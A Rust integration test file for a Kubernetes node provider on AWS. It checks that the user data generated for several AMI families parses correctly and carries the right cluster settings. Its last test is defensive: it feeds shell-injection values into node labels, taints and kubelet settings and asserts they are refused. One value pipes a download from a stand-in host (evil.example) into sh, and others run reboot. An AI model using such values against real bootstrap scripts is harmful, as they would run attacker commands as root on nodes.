//! Nodes must join: every AMI family's user data, with and without the
//! user's own, launched through `Create` against moto and read back from
//! the launch template with the parsers nodes use (Python's `email` as
//! cloud-init, nodeadm's NodeConfig fields, `bash -n`, a TOML parser that
//! refuses duplicate keys). The cluster's details come from
//! eks:DescribeCluster (moto's cluster: service CIDR 172.20.0.0/16).

mod common;

use std::io::Write as _;
use std::process::{Command, Stdio};

use common::userdata::{self, MimePart};
use common::*;
use karpenter_proto::provider::v1 as pv;
use karpenter_proto::types::v1 as types;

/// What DescribeCluster says of the test cluster.
struct Cluster {
    endpoint: String,
    ca: String,
}

async fn cluster(world: &World) -> Cluster {
    let out = world
        .setup
        .eks
        .describe_cluster()
        .name(CLUSTER)
        .send()
        .await
        .expect("describe the cluster");
    let cluster = out.cluster().expect("cluster");
    Cluster {
        endpoint: cluster.endpoint().expect("endpoint").to_string(),
        ca: cluster
            .certificate_authority()
            .and_then(|c| c.data())
            .expect("ca")
            .to_string(),
    }
}

/// A node class of `alias` with the user's data, resolved.
async fn node_class(world: &mut World, alias: &str, user_data: Option<&str>) -> pv::NodeClass {
    let mut nc = seed_node_class();
    let mut spec: serde_json::Value = serde_json::from_str(&nc.spec_json).expect("spec");
    spec["amiSelectorTerms"] = serde_json::json!([{"alias": alias}]);
    spec.as_object_mut().expect("object").remove("amiFamily");
    if let Some(user_data) = user_data {
        spec["userData"] = user_data.into();
    }
    nc.spec_json = spec.to_string();
    let (nc, response) = resolved(world, nc).await;
    assert!(
        response.conditions.iter().all(|c| c.status == "True"),
        "{alias}: {:?}",
        response.conditions
    );
    nc
}

fn taint(key: &str, value: &str, effect: types::TaintEffect) -> types::Taint {
    types::Taint {
        key: key.into(),
        value: value.into(),
        effect: effect as i32,
    }
}

/// A claim with labels the kubelet may and may not set, and two taints of
/// one key.
fn claim(name: &str, nc: &pv::NodeClass, family: &str) -> pv::NodeClaim {
    let mut claim = seed_node_claim(name, nc);
    claim.requirements[0] = requirement("karpenter.k8s.aws/instance-family", &[family]);
    claim
        .requirements
        .retain(|r| r.key != "karpenter.k8s.aws/instance-memory" && r.key != "kubernetes.io/arch");
    for (key, value) in [
        ("example.com/team", "a"),
        ("node-restriction.kubernetes.io/zone-owner", "a"),
        ("kubernetes.io/arch", "arm64"),
    ] {
        claim.labels.insert(key.into(), value.into());
    }
    claim.taints = vec![
        taint("dedicated", "a", types::TaintEffect::NoSchedule),
        taint("dedicated", "b", types::TaintEffect::NoExecute),
    ];
    claim.startup_taints = vec![taint(
        "example.com/agent",
        "",
        types::TaintEffect::NoSchedule,
    )];
    claim
}

/// Launches `claim` and returns the user data of every launch template its
/// fleet offered, with the pods of the types the node class has.
async fn launch(world: &mut World, claim: pv::NodeClaim) -> (Vec<String>, Vec<i64>) {
    let types = world
        .client
        .get_instance_types(pv::GetInstanceTypesRequest {
            node_pool: "default".into(),
            node_class: claim.node_class.clone(),
        })
        .await
        .expect("types")
        .into_inner()
        .instance_types;
    world
        .client
        .create(pv::CreateRequest {
            node_claim: Some(claim),
        })
        .await
        .expect("launched");
    let names: Vec<String> = world.proxy.with(|s| {
        let fleets = s.requests_of("ec2:CreateFleet");
        let fleet = fleets.last().expect("a fleet");
        fleet
            .iter()
            .filter(|(k, _)| k.ends_with(".LaunchTemplateSpecification.LaunchTemplateName"))
            .map(|(_, v)| v.clone())
            .collect()
    });
    assert!(!names.is_empty(), "the fleet named no launch template");
    let mut data = Vec::new();
    for name in names {
        data.push(userdata::of_template(&world.setup, &name).await);
    }
    let pods = types
        .iter()
        .map(|t| t.capacity.as_ref().map_or(0, |c| c.quantities["pods"]))
        .collect();
    (data, pods)
}

/// Parses a shell script as bash does, without running it.
fn bash_parses(script: &str) {
    let mut child = Command::new("bash")
        .arg("-n")
        .stdin(Stdio::piped())
        .spawn()
        .expect("bash");
    child
        .stdin
        .take()
        .expect("stdin")
        .write_all(script.as_bytes())
        .expect("write");
    assert!(
        child.wait().expect("bash ran").success(),
        "bash -n refused:\n{script}"
    );
}

/// The labels of a `--node-labels="k=v,..."` flag.
fn node_labels(flag: &str) -> Vec<String> {
    let list = flag
        .split("--node-labels=\"")
        .nth(1)
        .and_then(|rest| rest.split('"').next())
        .unwrap_or_default();
    list.split(',').map(str::to_string).collect()
}

fn check_labels(labels: &[String]) {
    for wanted in [
        "karpenter.sh/nodepool=default",
        "example.com/team=a",
        "karpenter.sh/do-not-sync-taints=true",
    ] {
        assert!(
            labels.iter().any(|l| l == wanted),
            "{wanted} missing from {labels:?}"
        );
    }
    assert!(
        labels
            .iter()
            .any(|l| l.starts_with("karpenter.sh/capacity-type=")),
        "{labels:?}"
    );
    for label in labels {
        let domain = label.split('/').next().unwrap_or_default();
        assert!(
            !(domain == "kubernetes.io"
                || domain.ends_with(".kubernetes.io")
                || domain.ends_with("k8s.io")),
            "the kubelet may not set {label}"
        );
    }
}

/// AL2023: the user's parts as they are, then Karpenter's NodeConfig with
/// the cluster, the planned pods, the DNS of the service CIDR, the taints
/// and the labels.
fn check_al2023(data: &str, cluster: &Cluster, pods: &[i64]) -> Vec<MimePart> {
    let parts = userdata::mime_parts(data);
    for part in &parts {
        match part.content_type.as_str() {
            "application/node.eks.aws" => {
                userdata::node_config(&part.payload);
            }
            "text/x-shellscript" => bash_parses(&part.payload),
            other => panic!("unexpected part {other}:\n{data}"),
        }
    }
    let ours = parts.last().expect("a part");
    assert_eq!(ours.content_type, "application/node.eks.aws");
    let config = userdata::node_config(&ours.payload);
    let spec = &config["spec"];
    assert_eq!(spec["cluster"]["name"].as_str(), Some(CLUSTER));
    assert_eq!(
        spec["cluster"]["apiServerEndpoint"].as_str(),
        Some(cluster.endpoint.as_str())
    );
    assert_eq!(
        spec["cluster"]["certificateAuthority"].as_str(),
        Some(cluster.ca.as_str())
    );
    assert_eq!(spec["cluster"]["cidr"].as_str(), Some("172.20.0.0/16"));
    let kubelet = &spec["kubelet"]["config"];
    assert_eq!(
        kubelet["clusterDNS"][0].as_str(),
        Some("172.20.0.10"),
        "{data}"
    );
    let max_pods = kubelet["maxPods"].as_i64().expect("maxPods");
    assert!(
        pods.contains(&max_pods),
        "maxPods {max_pods} is no type's {pods:?}"
    );
    let taints: Vec<(String, String)> = kubelet["registerWithTaints"]
        .as_sequence()
        .expect("taints")
        .iter()
        .map(|t| {
            (
                t["key"].as_str().unwrap_or_default().to_string(),
                format!(
                    "{}:{}",
                    t["value"].as_str().unwrap_or_default(),
                    t["effect"].as_str().unwrap_or_default()
                ),
            )
        })
        .collect();
    for wanted in [
        ("dedicated", "a:NoSchedule"),
        ("dedicated", "b:NoExecute"),
        ("example.com/agent", ":NoSchedule"),
        ("karpenter.sh/unregistered", ":NoExecute"),
    ] {
        assert!(
            taints.iter().any(|(k, v)| k == wanted.0 && v == wanted.1),
            "{wanted:?} missing from {taints:?}"
        );
    }
    check_labels(&node_labels(
        spec["kubelet"]["flags"][0].as_str().unwrap_or_default(),
    ));
    parts
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn al2023_user_data_is_mime_that_cloud_init_and_nodeadm_read() {
    let mut world = World::start().await;
    let cluster = cluster(&world).await;
    let shell = "#!/bin/bash\necho \"Hello, AL2023!\"\n";
    let node_config = "apiVersion: node.eks.aws/v1alpha1\nkind: NodeConfig\nspec:\n  kubelet:\n    config:\n      shutdownGracePeriod: 30s\n";
    let archive = |first: &str| {
        format!(
            "{first}\n--BOUNDARY\nContent-Type: application/node.eks.aws\n\n{node_config}\n--BOUNDARY\nContent-Type: text/x-shellscript; charset=\"us-ascii\"\n\n{shell}\n--BOUNDARY--\n"
        )
    };
    let mime_first =
        archive("MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"BOUNDARY\"\n");
    let content_type_first =
        archive("Content-Type: multipart/mixed; boundary=\"BOUNDARY\"\nMIME-Version: 1.0\n");
    let cases: [(&str, Option<&str>, &[&str]); 5] = [
        ("none", None, &[]),
        ("shell", Some(shell), &["text/x-shellscript"]),
        (
            "nodeconfig",
            Some(node_config),
            &["application/node.eks.aws"],
        ),
        (
            "mime",
            Some(&mime_first),
            &["application/node.eks.aws", "text/x-shellscript"],
        ),
        (
            "content-type-first",
            Some(&content_type_first),
            &["application/node.eks.aws", "text/x-shellscript"],
        ),
    ];
    for (case, user, user_parts) in cases {
        let nc = node_class(&mut world, "al2023@latest", user).await;
        let (data, pods) = launch(&mut world, claim(&format!("al2023-{case}"), &nc, "t4g")).await;
        for data in data {
            let parts = check_al2023(&data, &cluster, &pods);
            let types: Vec<&str> = parts.iter().map(|p| p.content_type.as_str()).collect();
            assert_eq!(&types[..types.len() - 1], user_parts, "{case}:\n{data}");
            if case == "shell" {
                assert_eq!(
                    parts[0].payload.trim(),
                    shell.trim(),
                    "the script as written"
                );
            }
        }
    }
    world.assert_least_privilege();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn al2_bottlerocket_windows_and_custom_user_data_read_back() {
    let mut world = World::start().await;
    let cluster = cluster(&world).await;

    // AL2: the user's script, then bootstrap.sh with the cluster, the DNS
    // of the service CIDR and the planned pods.
    let nc = node_class(&mut world, "al2@latest", Some("#!/bin/bash\necho al2\n")).await;
    let (data, pods) = launch(&mut world, claim("al2", &nc, "t4g")).await;
    for data in &data {
        let parts = userdata::mime_parts(data);
        assert_eq!(parts.len(), 2, "{data}");
        assert_eq!(parts[0].payload.trim(), "#!/bin/bash\necho al2");
        let script = &parts[1].payload;
        bash_parses(script);
        assert!(
            script.contains(&format!(
                "/etc/eks/bootstrap.sh '{CLUSTER}' --apiserver-endpoint '{}' --b64-cluster-ca '{}'",
                cluster.endpoint, cluster.ca
            )),
            "{script}"
        );
        assert!(
            script.contains("--dns-cluster-ip '172.20.0.10'"),
            "{script}"
        );
        assert!(
            pods.iter()
                .any(|p| script.contains(&format!("--max-pods={p}'"))
                    || script.contains(&format!("--max-pods={p} "))),
            "{script}"
        );
        assert!(
            script.contains("karpenter.sh/unregistered:NoExecute"),
            "{script}"
        );
        check_labels(&node_labels(script));
    }

    // Bottlerocket: the user's TOML, cluster keys overridden, labels and
    // taints merged (one key, several values), dotted keys understood.
    let toml = "settings.kubernetes.cluster-name = \"not-this-one\"\nsettings.kubernetes.api-server = \"https://elsewhere\"\n[settings.kubernetes.node-labels]\n\"custom-label\" = \"kept\"\n\"karpenter.sh/nodepool\" = \"overridden\"\n[settings.kubernetes.node-taints]\ndedicated = [\"c:NoSchedule\"]\n[settings.host-containers.admin]\nenabled = true\n";
    let nc = node_class(&mut world, "bottlerocket@latest", Some(toml)).await;
    let (data, pods) = launch(&mut world, claim("bottlerocket", &nc, "t4g")).await;
    for data in &data {
        let settings = userdata::bottlerocket(data);
        let kubernetes = &settings["settings"]["kubernetes"];
        assert_eq!(kubernetes["cluster-name"].as_str(), Some(CLUSTER), "{data}");
        assert_eq!(
            kubernetes["api-server"].as_str(),
            Some(cluster.endpoint.as_str()),
            "{data}"
        );
        assert_eq!(
            kubernetes["cluster-certificate"].as_str(),
            Some(cluster.ca.as_str())
        );
        assert_eq!(kubernetes["cluster-dns-ip"].as_str(), Some("172.20.0.10"));
        assert!(pods.contains(&kubernetes["max-pods"].as_integer().expect("max-pods")));
        let labels = &kubernetes["node-labels"];
        assert_eq!(labels["custom-label"].as_str(), Some("kept"));
        assert_eq!(
            labels["karpenter.sh/nodepool"].as_str(),
            Some("default"),
            "the claim's wins"
        );
        assert_eq!(labels["example.com/team"].as_str(), Some("a"));
        assert!(labels.get("kubernetes.io/arch").is_none(), "{data}");
        let values = |key: &str| -> Vec<String> {
            kubernetes["node-taints"][key]
                .as_array()
                .map(|a| {
                    a.iter()
                        .filter_map(|v| v.as_str().map(str::to_string))
                        .collect()
                })
                .unwrap_or_default()
        };
        assert_eq!(
            values("dedicated"),
            ["c:NoSchedule", "a:NoSchedule", "b:NoExecute"],
            "{data}"
        );
        assert_eq!(values("karpenter.sh/unregistered"), [":NoExecute"]);
        assert_eq!(
            settings["settings"]["host-containers"]["admin"]["enabled"].as_bool(),
            Some(true)
        );
    }

    // Windows: the user's PowerShell, then the EKS bootstrap.
    let nc = node_class(
        &mut world,
        "windows2022@latest",
        Some("<powershell>\nWrite-Host hi\n</powershell>"),
    )
    .await;
    let (data, _) = launch(&mut world, claim("windows", &nc, "m5")).await;
    for data in &data {
        assert!(data.starts_with("<powershell>\nWrite-Host hi\n"), "{data}");
        assert!(data.trim_end().ends_with("</powershell>"), "{data}");
        assert!(
            data.contains(&format!(
                "-EKSClusterName '{CLUSTER}' -APIServerEndpoint '{}'",
                cluster.endpoint
            )),
            "{data}"
        );
        assert!(data.contains("-DNSClusterIP '172.20.0.10'"), "{data}");
        check_labels(&node_labels(data));
    }

    // Custom: exactly the user's.
    let mut nc = seed_node_class();
    let mut spec: serde_json::Value = serde_json::from_str(&nc.spec_json).expect("spec");
    spec["amiFamily"] = "Custom".into();
    spec["amiSelectorTerms"] = serde_json::json!([{"id": world.made.ami_arm64}]);
    spec["userData"] = "#!/bin/bash\n/opt/bootstrap --mine\n".into();
    nc.spec_json = spec.to_string();
    let (nc, _) = resolved(&mut world, nc).await;
    let (data, _) = launch(&mut world, claim("custom", &nc, "t4g")).await;
    assert!(!data.is_empty());
    for data in &data {
        assert_eq!(data, "#!/bin/bash\n/opt/bootstrap --mine\n");
    }
    world.assert_least_privilege();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn without_the_clusters_details_nothing_launches_and_flags_fill_them_in() {
    // No EKS cluster of this name: DescribeCluster cannot say.
    let mut world = World::start().await;
    world
        .setup
        .eks
        .delete_cluster()
        .name(CLUSTER)
        .send()
        .await
        .expect("delete the cluster");
    let (nc, response) = resolved(&mut world, seed_node_class()).await;
    let validation = response
        .conditions
        .iter()
        .find(|c| c.r#type == "ValidationSucceeded")
        .expect("ValidationSucceeded");
    assert_eq!(validation.status, "False", "{validation:?}");
    assert!(
        validation.message.contains("API server endpoint")
            && validation.message.contains("eks:DescribeCluster"),
        "{validation:?}"
    );
    let ready = response
        .conditions
        .iter()
        .find(|c| c.r#type == "Ready")
        .expect("Ready");
    assert_eq!(ready.status, "False");
    let error = world
        .client
        .create(pv::CreateRequest {
            node_claim: Some(seed_node_claim("default-nocluster", &nc)),
        })
        .await
        .expect_err("nothing launches");
    assert_eq!(error.code(), tonic::Code::FailedPrecondition, "{error:?}");
    assert_eq!(world.proxy.count("ec2:CreateFleet"), 0);

    // The same account with the details given as flags.
    let mut world = World::start_with(|s| {
        s.cluster_endpoint = Some("https://flags.example".into());
        s.cluster_ca_bundle = Some("Q0EK".into());
        s.service_cidr = Some("10.100.0.0/16".into());
        s.kubernetes_version = Some(K8S.into());
    })
    .await;
    world
        .setup
        .eks
        .delete_cluster()
        .name(CLUSTER)
        .send()
        .await
        .expect("delete");
    let nc = node_class(&mut world, "al2023@latest", None).await;
    let (data, _) = launch(&mut world, claim("flags", &nc, "t4g")).await;
    let config =
        userdata::node_config(&userdata::mime_parts(&data[0]).last().expect("part").payload);
    assert_eq!(
        config["spec"]["cluster"]["apiServerEndpoint"].as_str(),
        Some("https://flags.example")
    );
    assert_eq!(
        config["spec"]["kubelet"]["config"]["clusterDNS"][0].as_str(),
        Some("10.100.0.10")
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn without_the_users_data_each_family_bootstraps_alone() {
    let mut world = World::start().await;
    let cluster = cluster(&world).await;

    let nc = node_class(&mut world, "al2@latest", None).await;
    let (data, _) = launch(&mut world, claim("al2-alone", &nc, "t4g")).await;
    for data in &data {
        let parts = userdata::mime_parts(data);
        assert_eq!(parts.len(), 1, "{data}");
        assert_eq!(parts[0].content_type, "text/x-shellscript");
        bash_parses(&parts[0].payload);
        assert!(
            parts[0]
                .payload
                .contains(&format!("--apiserver-endpoint '{}'", cluster.endpoint))
        );
    }

    let nc = node_class(&mut world, "bottlerocket@latest", None).await;
    let (data, pods) = launch(&mut world, claim("bottlerocket-alone", &nc, "t4g")).await;
    for data in &data {
        let settings = userdata::bottlerocket(data);
        let kubernetes = &settings["settings"]["kubernetes"];
        assert_eq!(
            kubernetes["api-server"].as_str(),
            Some(cluster.endpoint.as_str())
        );
        assert!(pods.contains(&kubernetes["max-pods"].as_integer().expect("max-pods")));
        assert_eq!(
            kubernetes["node-labels"]["karpenter.sh/nodepool"].as_str(),
            Some("default")
        );
        assert!(
            kubernetes["node-taints"]["dedicated"]
                .as_array()
                .is_some_and(|a| a.len() == 2)
        );
    }

    let nc = node_class(&mut world, "windows2022@latest", None).await;
    let (data, _) = launch(&mut world, claim("windows-alone", &nc, "m5")).await;
    for data in &data {
        assert!(
            data.starts_with("<powershell>\n[string]$EKSBootstrapScriptFile"),
            "{data}"
        );
        assert!(
            data.contains(&format!("-Base64ClusterCA '{}'", cluster.ca)),
            "{data}"
        );
    }
}

/// A label, taint or kubelet setting is written into a quoted argument of
/// the bootstrap script: one with a quote in it would run as root on the
/// node. The API server's rules refuse them in a NodePool or EC2NodeClass,
/// but the provider cannot know they ran, so it refuses them itself, with
/// INVALID_ARGUMENT naming the field, and launches nothing.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn values_that_would_break_out_of_the_bootstrap_script_are_refused() {
    let mut world = World::start().await;
    let nc = node_class(&mut world, "al2@latest", None).await;
    let fleets = |world: &World| world.proxy.with(|s| s.requests_of("ec2:CreateFleet").len());
    let before = fleets(&world);

    let mut labelled = claim("label-injection", &nc, "t4g");
    labelled.labels.insert(
        "example.com/team".into(),
        "a' ; curl -s evil.example | sh ; '".into(),
    );
    let mut tainted = claim("taint-injection", &nc, "t4g");
    tainted.taints[0].value = "$(reboot)".into();
    let mut reserved = claim("kubelet-injection", &nc, "t4g");
    let mut node_class = reserved.node_class.clone().expect("node class");
    let mut spec: serde_json::Value = serde_json::from_str(&node_class.spec_json).expect("spec");
    spec["kubelet"] = serde_json::json!({"evictionHard": {"memory.available": "5%' && reboot '"}});
    node_class.spec_json = spec.to_string();
    reserved.node_class = Some(node_class);

    // The provider resolves the caller's node class itself: kubelet
    // settings it would not take hold the class (not ready), naming them.
    for (claim, field, code) in [
        (
            labelled,
            "node_claim.labels[example.com/team]",
            tonic::Code::InvalidArgument,
        ),
        (
            tainted,
            "node_claim.taints.value",
            tonic::Code::InvalidArgument,
        ),
        (
            reserved,
            "spec.kubelet.evictionHard[memory.available]",
            tonic::Code::FailedPrecondition,
        ),
    ] {
        let name = claim.name.clone();
        let refused = world
            .client
            .create(pv::CreateRequest {
                node_claim: Some(claim),
            })
            .await
            .expect_err("refused");
        assert_eq!(refused.code(), code, "{name}: {refused:?}");
        assert!(
            refused.message().contains(field),
            "{name}: the refusal names {field}: {}",
            refused.message()
        );
    }
    assert_eq!(fleets(&world), before, "nothing was launched");
}
